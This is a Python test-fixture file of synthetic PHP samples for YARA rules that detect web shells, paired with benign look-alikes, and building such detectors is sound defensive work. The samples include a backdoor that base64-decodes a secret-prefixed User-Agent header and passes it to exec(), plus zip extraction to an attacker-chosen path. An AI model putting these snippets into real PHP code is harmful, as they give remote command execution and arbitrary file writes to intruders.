"""Must-hit / near-miss samples for issue-4h changes in filemanager.yar and evasion.yar.

Small synthetic PHP written for the tests; no corpus excerpts. The near-misses are the
legitimate look-alikes: a plugin installer that unpacks an upload into a fixed directory, and a
webhook that checks a signature header and runs a fixed deploy command.
"""

from __future__ import annotations


def php(body: str) -> bytes:
    """A PHP file around `body`."""
    return ("<?php\n" + body + "\n").encode()


EXTRACT = php(
    "$zip = new ZipArchive;\n"
    "if (isset($_FILES['z'])) { $zip->open($_FILES['z']['tmp_name']);"
    " $zip->extractTo($_POST['to']); $zip->close(); }"
)
EXTRACT_VAR = php(
    "$dest = isset($_GET['dest']) ? $_GET['dest'] : getcwd();\n"
    "$zip = new ZipArchive; $zip->open($_FILES['pack']['tmp_name']); $zip->extractTo($dest);"
)
# Near-miss: a plugin installer unpacks the upload into its own fixed directory.
EXTRACT_NEAR = php(
    "$slug = preg_replace('/[^a-z0-9-]/', '', $_POST['slug']);\n"
    "$zip = new ZipArchive; $zip->open($_FILES['plugin']['tmp_name']);"
    " $zip->extractTo(__DIR__ . '/plugins/');"
)

HEADER_EXEC = php(
    "$u = $_SERVER['HTTP_USER_AGENT'];\n"
    "if (strpos($u, 'zz9') === 0) { exec(base64_decode(substr($u, 3)), $r); echo implode(\"\\n\", $r); }"
)
# Near-miss: a deploy webhook checks a header and runs a fixed command.
HEADER_EXEC_NEAR = php(
    "$sig = $_SERVER['HTTP_X_HUB_SIGNATURE'];\n"
    "if (hash_equals('sha1=' . hash_hmac('sha1', $body, $key), $sig)) { exec('git pull', $out); }"
)

CASES: list[tuple[str, bytes, bool]] = [
    ("SPAMGEAR_SHELLUI_ArchiveExtractToInputPath", EXTRACT, True),
    ("SPAMGEAR_SHELLUI_ArchiveExtractToInputPath", EXTRACT_VAR, True),
    ("SPAMGEAR_SHELLUI_ArchiveExtractToInputPath", EXTRACT_NEAR, False),
    ("SPAMGEAR_EVASION_HeaderToSinkTiny", HEADER_EXEC, True),
    ("SPAMGEAR_EVASION_HeaderToSinkTiny", HEADER_EXEC_NEAR, False),
]
